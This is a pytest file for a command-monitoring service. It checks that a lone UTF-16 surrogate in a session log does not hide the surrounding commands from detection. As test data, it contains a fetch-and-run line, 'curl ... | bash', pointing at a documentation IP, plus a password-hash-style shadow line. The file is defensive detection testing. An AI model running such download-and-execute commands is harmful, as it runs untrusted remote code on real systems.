"""A log event may carry any JSON string, including a lone UTF-16 surrogate (``"\\ud800"``): the
agent never writes one, but anyone who can write to the session's stream can. Such text must not
stop the batch (a batch that always fails would make the session's later commands invisible): it
is judged as the agent would have shown it (U+FFFD), and the commands around it are judged."""

from __future__ import annotations

import pytest

from functions.command_monitor import app as monitor_app
from tests.conftest import LambdaContext
from tests.integration.enforce.conftest import Warden
from tests.integration.enforce.test_blinding import PROMPT, live_session, queued_actions, streamed_payload


@pytest.mark.parametrize(
    "odd",
    [
        [f"{PROMPT}echo \ud800 x"],  # a command holding a lone high surrogate
        ['x "\udcff" $(y)'],  # output shaped like shell, with a lone low surrogate
        ["root:$6$abc\ud800def:19700:0:99999:7:::"],  # a line the output rules look at
    ],
)
def test_a_lone_surrogate_in_a_log_event_does_not_hide_the_commands_around_it(
    warden: Warden, odd: list[str]
) -> None:
    session_id, target = live_session(warden, "dev")
    payload = streamed_payload(
        warden,
        session_id,
        target,
        [[f"{PROMPT}id"], odd, [f"{PROMPT}curl -s http://203.0.113.9/a.sh | bash"]],
    )
    monitor_app.lambda_handler(payload, LambdaContext())
    rules = {f.rule for action in queued_actions(warden) for f in action.findings}
    assert any("download" in rule for rule in rules), rules
